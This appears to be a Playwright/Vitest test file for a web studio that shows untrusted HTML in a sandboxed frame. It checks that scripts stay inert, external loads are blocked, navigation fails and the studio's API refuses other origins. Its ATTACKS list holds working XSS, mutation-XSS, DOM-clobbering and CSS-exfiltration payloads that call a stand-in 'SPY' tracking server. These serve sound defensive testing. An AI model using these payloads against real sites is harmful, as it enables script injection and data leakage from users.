import { createServer, type Server } from "node:http"
import type { AddressInfo } from "node:net"
import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { findBrowser } from "../../../../scripts/find-browser.js"
import { BUILD_TIME, openStage, type Stage } from "./server.test-stage.js"

const program = await findBrowser()

/** What a browser of today itself puts between pages and this machine; the tests are to see our own guards at work. */
const NETWORK_GUARDS =
  "LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights"

/** Everything a page could try against whoever looks at it. `SPY` is a server that writes down who called. */
const ATTACKS = [
  `<script>parent.__hacked = 1; fetch("SPY/script")</script>`,
  `<script src="SPY/script.js"></script>`,
  `<img src="SPY/image" onerror="parent.__hacked = 1" onload="parent.__hacked = 1">`,
  `<img src="data:image/png,x" onerror="top.__hacked = 1">`,
  `<svg onload="parent.__hacked = 1"><script>parent.__hacked = 1</script><image href="SPY/svg"/></svg>`,
  `<svg><a xlink:href="javascript:parent.__hacked=1"><text>svg link</text></a></svg>`,
  `<iframe src="SPY/frame"></iframe><iframe srcdoc="<script>parent.parent.__hacked=1</script>"></iframe>`,
  `<object data="SPY/object"></object><embed src="SPY/embed"><applet code="SPY/applet"></applet>`,
  `<meta http-equiv="refresh" content="0; url=SPY/refresh">`,
  `<meta http-equiv="content-security-policy" content="default-src *">`,
  `<base href="SPY/">`,
  `<link rel="stylesheet" href="SPY/style.css"><link rel="prefetch" href="SPY/prefetch"><link rel="dns-prefetch" href="SPY">`,
  `<style>@import "SPY/import"; body { background: url(SPY/background) } @font-face { font-family: x; src: url(SPY/font) } p { font-family: x }</style>`,
  `<style>p { background: u\\72l(SPY/escaped); cursor: image-set("SPY/set" 1x), auto }</style>`,
  `<p style="background:url(SPY/inline)">styled</p>`,
  `<style></style><script>parent.__hacked=1</script></style>`,
  `<form action="SPY/form" id="f"><input name="a"><button id="go">Submit</button></form>`,
  `<button form="f" formaction="SPY/formaction">Submit too</button>`,
  `<a id="away" href="SPY/link" ping="SPY/ping">away</a> <a id="code" href="javascript:parent.__hacked=1">code</a>`,
  `<a id="top" target="_top" href="SPY/top">top</a>`,
  `<video src="SPY/video" poster="SPY/poster" autoplay onloadstart="parent.__hacked=1"></video><audio src="SPY/audio"></audio>`,
  `<input autofocus onfocus="parent.__hacked=1"><details open ontoggle="parent.__hacked=1"><summary>x</summary></details>`,
  `<body onload="parent.__hacked=1" background="SPY/body">`,
  `<table background="SPY/table"><tr><td background="SPY/cell">cell</td></tr></table>`,
  `<img name="querySelectorAll"><img name="body"><form name="getElementById"></form><a id="defaultView" name="cookie">clobber</a>`,
  `<template shadowrootmode="open"><img src="SPY/shadow" onerror="parent.__hacked=1"></template>`,
  `<portal src="SPY/portal"></portal><fencedframe></fencedframe>`,
  `<p data-honbun-block="0">forged</p>`,
  `<xmp><img src=1 onerror=parent.__hacked=1></xmp><noscript><img src="SPY/noscript"></noscript>`,
  `<textarea></textarea><script>parent.__hacked=1</script></textarea>`,
  `<custom-element onclick="parent.__hacked=1" style="x:expression(1)">custom</custom-element>`,
  // Last, because it opens a comment that swallows what follows.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.__hacked=1&gt;">`,
]

describe.skipIf(program === undefined)("hostile pages in a real browser", () => {
  let stage: Stage
  let browser: Browser
  let context: BrowserContext
  let spy: Server
  let spyUrl: string
  const calls: string[] = []
  beforeAll(async () => {
    stage = await openStage()
    spy = createServer((request, response) => {
      calls.push(request.url!)
      response.setHeader("access-control-allow-origin", "*").end("parent.__hacked = 1")
    })
    await new Promise<void>((resolve) => spy.listen(0, "127.0.0.1", resolve))
    spyUrl = `http://127.0.0.1:${(spy.address() as AddressInfo).port}`
    browser = await chromium.launch({
      executablePath: program!,
      args: ["--no-sandbox", `--disable-features=${NETWORK_GUARDS}`],
    })
    context = await browser.newContext()
  }, BUILD_TIME)
  afterAll(async () => {
    await browser?.close()
    spy?.close()
    await stage?.close()
  })

  /** Opens a page of the studio's own origin with a frame in it, as the studio would. */
  async function open(html: string, options: { reachable: boolean; images?: boolean }): Promise<Page> {
    const { json } = await stage.post("/api/page", {
      html,
      url: "https://hostile.example/",
      images: options.images ?? false,
    })
    const source = `/api/page/${json.id}${options.reachable ? "?reachable=1" : ""}`
    const page = await context.newPage()
    // A page without a policy of its own, so that only the frame's guards are at work.
    await page.route("**/host", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<iframe id="frame" style="width:800px;height:600px" sandbox${options.reachable ? '="allow-same-origin"' : ""} src="${source}"></iframe>`,
      }),
    )
    await page.goto(new URL("/host", stage.server.url).href)
    await page.frameLocator("#frame").locator("body").waitFor()
    return page
  }
  const hostile = () => ATTACKS.join("\n").replaceAll("SPY", spyUrl)
  const hacked = (page: Page) => page.evaluate(() => "__hacked" in globalThis)

  /** Calls of a page that is closed may still be on their way. */
  const noMoreCalls = async () => {
    for (let before = -1; before !== calls.length; ) {
      before = calls.length
      await new Promise((resolve) => setTimeout(resolve, 1_000))
    }
  }

  test("the attacks are real: unguarded, they run and call", async () => {
    calls.length = 0
    // Without the one that leads away at once, before the others have called.
    const staying = hostile().replace(/<meta http-equiv="refresh"[^>]*>/, "")
    const page = await context.newPage()
    await page.route("**/raw", (route) => route.fulfill({ contentType: "text/html", body: staying }))
    await page.goto(new URL("/raw", stage.server.url).href, { waitUntil: "commit" })
    try {
      await expect.poll(() => calls.length).toBeGreaterThan(5)
    } finally {
      await page.close()
      await noMoreCalls()
    }
  })

  test.each([{ reachable: false }, { reachable: true }])(
    "nothing runs, nothing is loaded, nobody is called (%j)",
    async (options) => {
      calls.length = 0
      const page = await open(hostile(), options)
      await page.waitForTimeout(1_000)
      expect(calls).toEqual([])
      expect(await hacked(page)).toBe(false)
      await page.close()
    },
  )

  test("nothing runs either when the frame's own sandbox is forgotten", async () => {
    calls.length = 0
    const { json } = await stage.post("/api/page", { html: hostile() })
    const page = await context.newPage()
    await page.goto(new URL(`/api/page/${json.id}?reachable=1`, stage.server.url).href)
    await page.waitForTimeout(500)
    expect(calls).toEqual([])
    expect(page.url()).toContain("/api/page/")
    await page.close()
  })

  test("nothing runs when the html is shown without any header, by its own policy", async () => {
    calls.length = 0
    const { json } = await stage.post("/api/page", { html: hostile() })
    const page = await context.newPage()
    await page.route("**/bare", (route) => route.fulfill({ contentType: "text/html", body: json.html }))
    await page.goto(new URL("/bare", stage.server.url).href)
    await page.waitForTimeout(500)
    expect(calls).toEqual([])
    expect(await hacked(page)).toBe(false)
    await page.close()
  })

  test("clicks lead nowhere: no link, no form, no new window", async () => {
    calls.length = 0
    const page = await open(hostile(), { reachable: true })
    const frame = page.frameLocator("#frame")
    for (const id of ["#away", "#code", "#top", "#go"])
      await frame.locator(id).click({ force: true, timeout: 5_000 })
    await page.waitForTimeout(300)
    expect(calls).toEqual([])
    expect(await hacked(page)).toBe(false)
    expect(page.url()).toContain("/host")
    expect(context.pages()).toHaveLength(1)
    await page.close()
  })

  test("a frame in its own world cannot be looked into; a reachable one can be tinted, and clicks be heard", async () => {
    const closed = await open(hostile(), { reachable: false })
    const look = () =>
      (document.querySelector("iframe") as HTMLIFrameElement).contentDocument?.body.textContent
    expect(await closed.evaluate(look)).toBeUndefined()
    await closed.close()
    const opened = await open(`<p id="x">First block of text.</p><p>Second block of text.</p>${hostile()}`, {
      reachable: true,
    })
    await opened.evaluate(() => {
      const { contentDocument } = document.querySelector("iframe") as HTMLIFrameElement
      contentDocument!.addEventListener("click", (event) => {
        const block = (event.target as Element).closest("[data-honbun-block]")
        document.title = `heard ${block?.getAttribute("data-honbun-block")}`
      })
      // Would fail if an image could take the place of the document's own function.
      for (const each of contentDocument!.querySelectorAll('[data-honbun-block="1"]')) {
        ;(each as HTMLElement).style.outline = "1px solid red"
      }
    })
    await opened.frameLocator("#frame").locator('[data-honbun-block="0"]').first().click()
    expect(await opened.title()).toBe("heard 0")
    await opened.close()
  })

  test("the studio's page and its API are closed to pages of other origins", async () => {
    const page = await context.newPage()
    await page.goto(spyUrl)
    const tried = await page.evaluate(async (url) => {
      const attempt = (path: string, options?: RequestInit) =>
        fetch(url + path, options).then(
          (r) => r.status,
          () => "refused",
        )
      const framed = await new Promise((resolve) => {
        const frame = document.createElement("iframe")
        frame.onload = () => resolve(frame.contentDocument === null ? "closed" : "open")
        frame.src = `${url}api/about`
        document.body.append(frame)
      })
      return [
        await attempt("api/about"),
        await attempt("api/extract", { method: "POST", body: "{}" }),
        await attempt("api/extract", {
          method: "POST",
          body: "{}",
          headers: { "content-type": "application/json" },
        }),
        framed,
      ]
    }, stage.server.url)
    expect(tried).toEqual(["refused", "refused", "refused", "closed"])
    const { text } = await stage.ask("/metrics")
    expect(text).not.toMatch(/route="\/api\/extract",status="200"/)
    await page.close()
  })
})
